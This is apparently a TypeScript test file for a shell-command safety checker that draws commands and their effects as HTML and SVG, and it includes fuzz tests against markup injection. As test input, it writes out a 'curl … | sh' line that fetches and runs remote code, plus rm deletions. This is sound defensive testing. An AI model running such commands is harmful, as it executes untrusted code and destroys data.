// The picture of a command: its structure, its words, its effects, drawn in each form.
import fc from "fast-check";
import { beforeAll, describe, expect, test } from "vitest";
import { examine } from "../../../src/decide/examine.ts";
import { ready } from "../../../src/decide/ready.ts";
import { defaultPolicy } from "../../../src/policy/policy.ts";
import { picturePage } from "../../../src/show/pages/documents.ts";
import { marked } from "../../../src/show/pages/marked.ts";
import { pictureHtml } from "../../../src/show/pages/picture-html.ts";
import { pictureSvg } from "../../../src/show/pages/picture-svg.ts";
import { type Branch, type Picture, pictureOf } from "../../../src/show/picture/picture.ts";
import { branchesOf } from "../../../src/show/picture/tree.ts";
import { fixtureFiles, rowsOf, scriptsOf, share } from "../../support/rows.ts";

beforeAll(() => ready());

const picture = async (source: string): Promise<Picture> =>
  pictureOf(await examine({ source }, { policy: defaultPolicy, cwd: "/work", home: "/home/me" }, "judge-only"));

const outline = (branches: readonly Branch[], indent = ""): string =>
  branches.map(({ text, below = [] }) => `${indent}${text}\n${outline(below, `${indent}  `)}`).join("");

/** The structure, without what the catalog says. */
const structureOf = async (source: string): Promise<string> =>
  outline(branchesOf(await picture(source))[0]?.below ?? []).replace(/^ *(?:entry|no entry|written) .*\n/gm, "");

describe("the structure", () => {
  test.each([
    ["ls a | wc -l", "pipeline\n  ls a\n    reads `a`\n  | wc -l\n"],
    ["cd a && ls || pwd", "cd a\n&& ls  (in /work/a)\n|| pwd  (in /work or /work/a)\n"],
    ["echo $(date)", "echo …\n  $( … )\n    date\n"],
    [
      'for f in a b; do cat "$f"; done',
      "for f in a b\n  do\n    cat a\n      reads `a`\n    or cat b\n      reads `b`\n",
    ],
    ["if true; then ls; else pwd; fi", "if\n  true\n  then\n    ls\n  else\n    pwd\n"],
    ["while read x; do echo a; done", "while\n  read x\n  do\n    echo a\n"],
    ["case $x in a | b) ls ;; esac", "case $x\n  a | b)\n    ls\n"],
    ["f() { ls; }; f", "function f\n  { … }\n    ls\nf\n  calls the function `f`\n"],
    ["(ls) & wait", "in the background: &\n  ( … )\n    ls\nwait\n"],
    ["! ls", "not: !\n  ls\n"],
    ["[[ -n $(date) ]]", "[[ -n $(date) ]]\n  $( … )\n    date\n"],
    ["diff <(ls a) b", "diff /dev/fd/… b\n  reads `/dev/fd/…`\n  reads `b`\n  <( … )\n    ls a\n      reads `a`\n"],
    ["echo a > b", "echo a\n  a redirection writes `b`\n"],
    ["{ echo a; } > b", "{ … }\n  echo a\na redirection writes `b`\n"],
    ["for ((i = 0; i < 3; i++)); do ls; done", "for (( i = 0; i < 3; i++ ))\n  do\n    ls\n"],
  ])("of %j", async (source, expected) => {
    expect(await structureOf(source)).toBe(expected);
  });

  test("of a command that runs others", async () => {
    expect(await structureOf("find . -exec rm {} +")).toMatch(/^find [^\n]+\n {2}reads `.`\n {2}runs rm /);
    expect(await structureOf("bash -c 'rm x; ls'")).toMatch(/\n {2}runs rm x\n {4}deletes `x`\n {2}runs ls\n/);
  });

  test("each effect stands at the way of the command that has it", async () => {
    expect(await structureOf("f() { rm $1; }; f a; f b")).toContain(
      "rm a\n      deletes `a`\n    or rm b\n      deletes `b`\n",
    );
  });

  test("of a text that is not trusted: none, and its finding", async () => {
    const { parts, findings } = await picture("echo 'a");
    expect(parts).toEqual([]);
    expect(findings).toHaveLength(1);
  });
});

test("words show what they become, unless only quotes go away", async () => {
  const [, second] = (await picture("x=a; ls $x 'b c'")).parts;
  expect(second?.words).toEqual([
    { written: "ls", guilty: false },
    { written: "$x", became: ["a"], guilty: false },
    { written: "'b c'", guilty: false },
  ]);
});

test("the guilty text is marked, and all of the text is there", async () => {
  const { source, findings } = await picture("ls; rm a; ls");
  const pieces = marked(source, findings);
  expect(pieces.filter(({ guilty }) => guilty).map(({ text }) => text)).toEqual(["a"]);
  expect(pieces.map(({ text }) => text).join("")).toBe(source);
});

/** Every tag must be one of ours, letter by letter: text of a command can make none. */
const tags: readonly RegExp[] = [
  /^<\/?(?:p|pre|code|ul|li|strong|mark|dl|dt|dd|h[1-3]|span|main|body|head|html|title|style|svg|div|details|summary)>$/,
  /^<(?:li|ul|strong|span|code|dd|div|pre|p) class="[a-z_ ]+">$/,
  /^<button type="button" class="copy" data-copy hidden>$|^<\/button>$/,
  // The page's own script, which the test keeps to one character.
  /^<\/?script>$/,
  /^<span aria-hidden="true">$/,
  /^<!doctype html>$/,
  /^<html lang="en">$/,
  /^<meta (?:charset="utf-8"|name="(?:viewport|referrer)" content="[a-z0-9=, -]+"|http-equiv="Content-Security-Policy" content="[^"<>]+")>$/,
  /^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg" class="safe-sh" viewBox="[\d ]+" width="\d+" height="\d+" role="img" aria-labelledby="title">$/,
  /^<title id="title">$/,
  /^<rect class="[a-z ]+"(?: (?:x|y|width|height|rx)="[\d.]+")+\/>$/,
  /^<text xml:space="preserve" y="[\d.]+">$/,
  /^<tspan x="[\d.]+" class="[a-z_ ]*">$/,
  /^<\/(?:text|tspan)>$/,
];

function strangers(markup: string): readonly string[] {
  const found = markup.match(/<[^>]*>?/g) ?? [];
  return found.filter((tag) => !tags.some((ours) => ours.test(tag)));
}

describe("a command is text, never markup", () => {
  const hostile = rowsOf<{ command: string }>("fixtures/hostile-commands.jsonl").map(({ command }) => command);
  const forms = (drawn: Picture): readonly string[] => [
    picturePage(drawn).replace(/(?<=<script>)[^]*?(?=<\/script>)/, "0"),
    pictureSvg(drawn),
    pictureHtml(drawn, 3),
  ];

  test.each(hostile)("%j", async (command) => {
    const drawn = await picture(command);
    for (const markup of forms(drawn)) {
      expect(strangers(markup)).toEqual([]);
      expect(markup.match(/<script/g)?.length ?? 0).toBe(markup.startsWith("<!doctype") ? 1 : 0);
      expect(markup).not.toMatch(/[\0-\x08\x0b-\x1f\ud800-\udfff\u202e\ufffe\uffff]/u);
    }
    expect(forms(drawn)[0]).toContain("default-src &#39;none&#39;".replaceAll("&#39;", "'"));
  });

  test("any text at all", async () => {
    const nasty = fc.constantFrom(
      "<",
      ">",
      "&",
      '"',
      "'",
      "`",
      "$(",
      ")",
      "\n",
      "\t",
      " ",
      "]]>",
      "</script>",
      "<!--",
      "\u202e",
      "\ud800",
      "\0",
      "rm",
      "x=",
      ";",
      "|",
      "-",
    );
    const text = fc
      .array(fc.oneof(nasty, fc.string({ maxLength: 6, unit: "binary" })), { maxLength: 30 })
      .map((parts) => parts.join(""));
    await fc.assert(
      fc.asyncProperty(text, async (source) => {
        const drawn = await picture(source);
        for (const markup of forms(drawn)) expect(strangers(markup)).toEqual([]);
        expect(pictureHtml(drawn)).not.toContain("<script");
      }),
      { numRuns: 300, seed: 21 },
    );
  });

  test("the test itself finds what is not ours", () => {
    expect(strangers("<p><b></p><script src>")).toEqual(["<b>", "<script src>"]);
    expect(strangers('<li class="a" onclick="x">')).toHaveLength(1);
  });
});

test("every row of the attacks is drawn", async () => {
  for (const file of fixtureFiles("fixtures/attacks"))
    for (const source of share(scriptsOf(file), 5)) {
      const drawn = await picture(source);
      expect(strangers(pictureHtml(drawn))).toEqual([]);
      expect(pictureSvg(drawn)).toContain("</svg>");
    }
});

test.each([
  ["rm -r x; curl -s https://e.com | sh; echo a > b; ls", ["deletes", "runs", "writes", "connects"]],
  ["cat a; rm b", ["deletes", "reads"]],
  ["true", []],
])("the worst effect stands first: %s", async (source, worst) => {
  const tones = [...pictureHtml(await picture(source)).matchAll(/<span class="tone (\w+)">/g)].map(([, tone]) => tone);
  const shown = [...new Set(tones)].filter((tone) => worst.includes(tone ?? ""));
  expect(shown).toEqual(worst);
  expect(tones[0]).toBe(worst[0]);
});

test("what passes instead is there to copy; without it, what to do", async () => {
  expect(pictureHtml(await picture("npm run build"))).toContain(
    '<pre class="passing"><code>npm pkg get scripts</code></pre><button type="button" class="copy" data-copy hidden>',
  );
  expect(pictureHtml(await picture("frobnicate"))).toContain('<p class="advice">');
  expect(pictureHtml(await picture("ls"))).not.toMatch(/class="(?:passing|advice)"/);
});

test("a large script has a picture of bounded size", async () => {
  const drawn = await picture(Array.from({ length: 3000 }, (_, at) => `rm file${at}`).join("\n"));
  expect(pictureSvg(drawn).length).toBeLessThan(400_000);
  expect(pictureHtml(drawn).length).toBeLessThan(2_000_000);
});
